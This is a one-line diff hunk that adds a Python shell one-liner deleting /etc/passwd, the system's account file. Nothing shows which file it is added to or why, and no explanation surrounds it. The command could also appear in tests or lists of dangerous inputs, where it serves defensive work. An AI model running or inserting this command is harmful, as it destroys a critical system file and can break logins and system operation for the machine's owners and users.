@@ -1,0 +1,1 @@
+python -c "import os; os.remove('/etc/passwd')"
